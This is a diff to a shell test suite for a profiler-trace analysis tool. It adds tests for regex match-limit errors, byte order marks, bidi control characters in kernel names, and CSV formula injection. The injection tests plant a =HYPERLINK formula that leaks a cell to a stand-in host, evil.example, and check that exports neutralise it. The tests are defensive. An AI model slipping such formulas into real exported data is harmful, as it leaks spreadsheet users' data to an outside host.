@@ -214,6 +214,35 @@ check_rc "number pattern exits 1" 1 raptor base.rpd -C num.json
 check "number pattern: position" grep -q "category 'X': pattern 1 is not a string" "$TESTDIR/stderr"
 check_rc "missing category file exits 1" 1 raptor base.rpd -C nonexistent.json
 check_one_line "missing category file: one line"
+# a search PCRE2 cannot finish is never "no match": (.|\n)* over 2,000-char
+# names overflows PCRE2's default JIT stack (retried with a larger one: the
+# same categories as the plain pattern), a pattern over the match limit
+# fails the run in one line naming the category and the kernel
+cp base.rpd long.rpd
+sqlite3 long.rpd "WITH RECURSIVE c(k) AS (SELECT 1 UNION ALL SELECT k + 1 FROM c WHERE k < 40)
+  INSERT INTO rocpd_string(id, string) SELECT 5000000 + k, k || '_' || replace(hex(zeroblob(1000)), '0', 'x') || CASE WHEN k % 2 THEN '_Cijk_MT' ELSE '_Dijk_MT' END FROM c;
+  UPDATE rocpd_op SET description_id = 5000001 + id % 40 WHERE id % 3 = 0 AND description_id IN (SELECT id FROM rocpd_string WHERE string != '')"
+printf '{"GEMM": ["Cijk"]}\n' >plain.json
+printf '{"GEMM": ["(.|\\\\n)*Cijk"]}\n' >deep.json
+check "deep pattern on long names: exit 0" sh -c 'raptor long.rpd -c --format csv -C deep.json >deep.csv'
+raptor long.rpd -c --format csv -C plain.json >plain.csv 2>/dev/null
+check "deep pattern on long names: the plain pattern's categories" cmp deep.csv plain.csv
+check_eq "deep pattern on long names: GEMM holds the planted calls" 1 \
+  "$(awk -F, '$1 == "GEMM" && $3 >= '"$(q long.rpd "SELECT count(*) FROM rocpd_op WHERE description_id BETWEEN 5000001 AND 5000040 AND description_id % 2 = 0")"' { print 1 }' deep.csv)"
+sqlite3 long.rpd "UPDATE rocpd_string SET string = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!b' WHERE id = 5000002"
+printf '{"GEMM": ["Cijk"], "Slow": ["^(a|aa)*b"]}\n' >slow.json
+for mode in "-c" "--report"; do
+  if [ "$mode" = -c ]; then set -- -C slow.json; else set -- --category-json slow.json; fi
+  check_rc "match limit ($mode): exit 1" 1 raptor $mode long.rpd "$@"
+  check_eq "match limit ($mode): one line naming category, pattern and kernel" \
+    "raptor: $( [ "$mode" = --report ] && echo "'long.rpd': ")category 'Slow' pattern 1 cannot be matched against kernel 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!b': match limit exceeded on a subject of 48 bytes; simplify the pattern" \
+    "$(cat "$TESTDIR/stderr")"
+done
+# a category file with a UTF-8 byte order mark (Windows editors) is read
+printf '\357\273\277{"GEMM": ["Cijk"]}\n' >bom.json
+check "category file with a BOM: exit 0" sh -c 'raptor long.rpd -c --format csv -C bom.json >bom.csv 2>/dev/null'
+raptor long.rpd -c --format csv -C plain.json >plain2.csv 2>/dev/null
+check "category file with a BOM: as without" cmp bom.csv plain2.csv
 check "shipped categories.json = built-in" sh -c "raptor base.rpd -c --format csv >a.csv && raptor base.rpd -c --format csv -C '$(cd "$(dirname "$0")" && pwd)/../../raptor/categories.json' >b.csv && cmp a.csv b.csv"
 
 # traces
@@ -406,6 +435,43 @@ for z in 1 0.5; do
 done
 check_eq "-z 1: the trace has sequences whose every instance is an outlier" 1 \
   "$(q z1.rpd "$ZKEYS SELECT count(*) > 0 FROM (SELECT key FROM k GROUP BY key HAVING min(outlier) = 1)")"
+
+# -q: the tables only (no Timestamps block, no progress line)
+check_eq "-q: no Timestamps block, the tables as without -q" \
+  "$(raptor base.rpd -c -v | sed '/Timestamps/,/roi_dur/d')" "$(raptor base.rpd -c -v -q)"
+check_eq "-q: Categories still there" 1 "$(raptor base.rpd -c -q | grep -c '^Categories:')"
+
+# bidi controls in a kernel name (RLO U+202E, LRI U+2066) would reorder the
+# columns of a terminal table: the table shows U+FFFD, the CSV keeps the name
+cp base.rpd bidi.rpd
+sqlite3 bidi.rpd "UPDATE rocpd_string SET string = 'Cijk_' || char(0x202E) || 'lave' || char(0x2066) || '_x' WHERE id = (SELECT description_id FROM rocpd_op O JOIN rocpd_string T ON T.id = O.opType_id WHERE T.string = 'KernelExecution' GROUP BY description_id ORDER BY count(*) DESC, description_id LIMIT 1)"
+raptor bidi.rpd -k >bidi.txt 2>/dev/null
+check_eq "bidi: -k table has no bidi control, the name with U+FFFD" "0|1" \
+  "$(grep -c "$(printf '\342\200\256\|\342\201\246')" bidi.txt)|$(grep -c "$(printf 'Cijk_\357\277\275lave\357\277\275_x')" bidi.txt | sed 's/^[1-9][0-9]*$/1/')"
+check "bidi: CSV keeps the name" grep -q "$(printf 'Cijk_\342\200\256lave')" "$(raptor bidi.rpd -k --format csv >bidi.csv 2>/dev/null; echo bidi.csv)"
+
+# CSV formula injection: a kernel named =HYPERLINK(...) is a live link in a
+# spreadsheet; every CSV raptor writes prefixes it with ', numbers stay
+# numbers, --csv-raw writes the name as it is
+EVIL='=HYPERLINK("http://evil.example/?leak="&B2,"click")'
+cp base.rpd evil.rpd
+sqlite3 evil.rpd "UPDATE rocpd_string SET string = '$(printf '%s' "$EVIL" | sed "s/'/''/g")' WHERE id = (SELECT description_id FROM rocpd_op O JOIN rocpd_string T ON T.id = O.opType_id WHERE T.string = 'KernelExecution' GROUP BY description_id ORDER BY count(*) DESC, description_id LIMIT 1)"
+SAFE="\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"click\"\")\""
+RAW="\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"click\"\")\""
+raptor evil.rpd -k --format csv >evil_k.csv 2>/dev/null
+check "formula: -k --format csv neutralises the name" grep -qF ",$SAFE," evil_k.csv
+check_eq "formula: -k --format csv has no raw formula cell" 0 "$(grep -cF ",$RAW" evil_k.csv)"
+raptor evil.rpd -k --format csv --csv-raw >evil_raw.csv 2>/dev/null
+check "formula: --csv-raw writes it as it is" grep -qF ",$RAW," evil_raw.csv
+check_eq "formula: only the prefix differs" "$(sed "s/\"'=/\"=/g" evil_k.csv | cksum)" "$(cksum <evil_raw.csv)"
+check_rc "formula: --report --csv-dir exit 0" 0 raptor --report evil.rpd --csv-dir evil_rep -q
+check "formula: report kernel_summary neutralised" grep -qF "$SAFE," evil_rep/kernel_summary.csv
+check_eq "formula: report has no raw formula cell" 0 "$(cat evil_rep/*.csv | grep -c '^"=\|,"=')"
+raptor evil.rpd --format kernel-stats >evil_ks.csv 2>/dev/null
+check "formula: --format kernel-stats neutralised" grep -qF "$SAFE," evil_ks.csv
+raptor evil.rpd -c -v --gpu-summary -k --csv-dir evil_dir >/dev/null 2>&1
+check_eq "formula: --csv-dir has no raw formula cell, negative numbers kept" "0|1" \
+  "$(cat evil_dir/*.csv | grep -c '^"=\|,"=\|,=')|$(cat evil_dir/*.csv | grep -c ',-[0-9]' | sed 's/^[1-9][0-9]*$/1/')"
 
 # CSV is one table per stream (issue 11.7): several tables need --csv-dir
 check_rc "--format csv with the default three tables: usage error" 2 raptor base.rpd --format csv
